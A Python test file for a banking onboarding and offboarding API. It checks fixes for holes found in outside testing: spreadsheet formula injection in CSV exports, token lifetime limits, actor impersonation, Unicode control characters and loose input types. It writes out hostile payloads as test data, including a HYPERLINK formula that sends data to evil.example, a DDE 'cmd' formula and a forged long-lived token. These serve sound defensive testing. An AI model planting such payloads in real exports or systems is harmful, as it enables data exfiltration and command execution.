"""The holes found by trying the product from outside with only the README (issue 21), each
reproduced the way it was found: spreadsheet formulas in a customer's export, a committed signing
key and unbounded tokens, a channel taking a system actor's name, invisible and direction
characters in names, loosely typed dates and numbers, an implausible document expiry."""
from __future__ import annotations

import csv
import hashlib
import hmac
import io
import json
import stat
import unicodedata
import urllib.request
import zipfile

import pytest

from chalicelib.api import auth
from chalicelib.local.embedded import LOCAL_KEY_FILE
from chalicelib.settings import PROJECT_ROOT
from chalicelib.stores import AWS
from tests import pii
from tests.integration.conftest import applicant_body
from tests.integration.test_offboarding_workflow import closure, routine_transactions, tx

HOSTILE_GIVEN = '=HYPERLINK("http://evil.example/?d="&C2,"click")'


def csv_of(http, export_id: str, name: str) -> list[dict[str, str]]:
    view = http.get(f"/v1/exports/{export_id}").json_body
    with urllib.request.urlopen(view["download"]["url"], timeout=10) as answer:
        archive = zipfile.ZipFile(io.BytesIO(answer.read()))
    return list(csv.DictReader(io.StringIO(archive.read(name).decode())))


def test_formulas_in_names_and_counterparties_reach_the_export_as_text(http):
    body = applicant_body(**{"applicant.given_names": HOSTILE_GIVEN, "applicant.family_name": "+Smith",
                             "applicant.address.line1": "@SUM(1+1)"})
    customer_id = http.wait_final(http.post("/v1/onboarding", body).json_body["checkpoint_id"])["customer_id"]
    pii.remember(["=cmd|' /C calc'!A0"])
    transactions = routine_transactions() + [tx(3, "40.00", name="=cmd|' /C calc'!A0")]
    closing = http.post("/v1/offboarding", closure(customer_id, transactions=transactions, export=True))
    final = http.wait_final(closing.json_body["checkpoint_id"])
    assert final["status"] == "CLOSED", final
    export_id = next(s for s in final["steps"] if s["name"] == "export")["reasons"][0]["detail"]
    [profile] = csv_of(http, export_id, "profile.csv")
    assert (profile["GivenNames"], profile["FamilyName"], profile["Address.AddressLine"]) == (
        "'" + HOSTILE_GIVEN, "'+Smith", "'@SUM(1+1)")
    rows = csv_of(http, export_id, "transactions.csv")
    assert "'=cmd|' /C calc'!A0" in {r["CreditorAccount.Name"] for r in rows}
    assert all(r["Amount.Amount"][0].isdigit() for r in rows)  # amounts untouched
    assert AWS.customers.get(customer_id).profile.given_names == HOSTILE_GIVEN  # stored as given


def test_the_local_signing_key_is_this_installs_own_and_never_committed():
    config = (PROJECT_ROOT / ".chalice" / "config.json").read_text()
    assert auth.LOCAL_KEY_VARIABLE not in config and "local-development-key" not in config
    assert ".chalice/local-token.key" in (PROJECT_ROOT / ".gitignore").read_text().splitlines()
    assert stat.S_IMODE(LOCAL_KEY_FILE.stat().st_mode) == 0o600


def test_a_token_valid_for_longer_than_the_policy_allows_is_refused(http):
    payload, _ = auth.issue_local_token(auth.Role.AUDITOR, "mallory").split(".")
    claims = json.loads(auth._unb64(payload)) | {"exp": 253402300799}  # the same claims, valid until 9999
    body = auth._b64(json.dumps(claims).encode())
    token = body + "." + auth._b64(hmac.new(auth._local_key(), body.encode(), hashlib.sha256).digest())
    assert http.client.http.get("/v1/audit/verify?log=export",
                                headers={"Authorization": f"Bearer {token}"}).status_code == 401
    capped = json.loads(auth._unb64(auth.issue_local_token(auth.Role.AUDITOR, "a", ttl_seconds=10**9).split(".")[0]))
    assert capped["exp"] - json.loads(auth._unb64(payload))["exp"] < 60  # asked for 30 years, got the 12 hours


def test_a_channel_named_like_a_system_actor_reads_no_closure_export(http):
    customer_id = http.wait_final(http.post("/v1/onboarding", applicant_body()).json_body["checkpoint_id"])[
        "customer_id"]
    final = http.wait_final(http.post("/v1/offboarding", closure(customer_id, export=True)).json_body["checkpoint_id"])
    export_id = next(s for s in final["steps"] if s["name"] == "export")["reasons"][0]["detail"]
    assert AWS.exports.get(export_id).requested_by == "system:offboarding"
    for subject, status in (("offboarding", 404), ("system:offboarding", 401)):
        response = http.client.http.get(f"/v1/exports/{export_id}", headers=http.auth("channel", subject))
        assert response.status_code == status
    assert http.get(f"/v1/exports/{export_id}").status_code == 200  # the channel that asked for the closure


@pytest.mark.parametrize("field, value", [
    ("applicant.given_names", "Mallory\u202eyrollaM"),
    ("applicant.family_name", "Lind\u2066qvist"),
    ("applicant.address.line1", "Storgatan\u202b 12"),
])
def test_direction_controls_in_names_and_addresses_are_refused(http, field, value):
    response = http.post("/v1/onboarding", applicant_body(**{field: value}))
    assert response.status_code == 400
    [problem] = response.json_body["error"]["fields"]
    assert problem["field"] == field and "bidirectional control" in problem["reason"]


def test_names_are_stored_in_nfc_and_joiners_are_kept(http):
    decomposed = "Zoe\u0308"  # e + combining diaeresis
    persian = "Mehr\u200cdad"  # ZWNJ, part of how the name is written
    body = applicant_body(**{"applicant.given_names": decomposed, "applicant.family_name": persian})
    customer_id = http.wait_final(http.post("/v1/onboarding", body).json_body["checkpoint_id"])["customer_id"]
    profile = AWS.customers.get(customer_id).profile
    assert profile.given_names == unicodedata.normalize("NFC", decomposed) == "Zoë"
    assert profile.family_name == persian


@pytest.mark.parametrize("field, value, reason", [
    ("applicant.birth_date", "1984-08-12T00:00:00", "must be a date (YYYY-MM-DD)"),
    ("applicant.birth_date", 446774400, "must be a date (YYYY-MM-DD)"),
    ("document.expiry_date", "2031-04-15T00:00:00Z", "must be a date (YYYY-MM-DD)"),
])
def test_dates_are_dates(http, field, value, reason):
    response = http.post("/v1/onboarding", applicant_body(**{field: value}))
    assert response.status_code == 400
    assert response.json_body["error"]["fields"] == [{"field": field, "reason": reason}]


@pytest.mark.parametrize("size", ["100", True, 1e3, 100.0])
def test_an_upload_size_is_a_whole_number(http, size):
    checkpoint_id = http.post("/v1/onboarding", applicant_body()).json_body["checkpoint_id"]
    response = http.post(f"/v1/checkpoints/{checkpoint_id}/documents",
                         {"side": "front", "content_type": "image/png", "size": size}, key=False)
    assert response.status_code == 400
    assert [f["field"] for f in response.json_body["error"]["fields"]] == ["size"]


def test_a_document_valid_until_9999_goes_to_a_person(http):
    checkpoint_id = http.post("/v1/onboarding", applicant_body(**{"document.expiry_date": "9999-12-31"})).json_body[
        "checkpoint_id"]
    in_review = http.wait_final(checkpoint_id)
    assert in_review["status"] == "IN_REVIEW"
    assert {r["code"] for r in in_review["review"]["reasons"]} == {"DOCUMENT_VALIDITY_PERIOD"}
    assert http.decide(checkpoint_id, "reject", "expiry typed wrong; customer asked to re-apply").status_code == 200


@pytest.mark.parametrize("invisible", ["\u200d", "\u200c", "\u00ad", "\u200b", "\u2060", "\ufeff"])
def test_format_characters_kept_in_names_are_ignored_by_screening(http, invisible):
    # OFAC SDN 4106 HERRERA BUITRAGO, Helmer (DOB 24 Aug 1951): the same listed person, an invisible character in
    plain = http.post("/v1/screenings", {"name": "Helmer Herrera Buitrago", "birth_date": "1951-08-24"}, key=False)
    hidden = http.post("/v1/screenings", {"name": f"Helmer Herr{invisible}era Buitrago", "birth_date": "1951-08-24"},
                       key=False)
    assert hidden.status_code == 200
    top = hidden.json_body["matches"][0]
    assert (top["source_id"], top["band"]) == ("4106", "block") and top["score"] == plain.json_body["matches"][0]["score"]
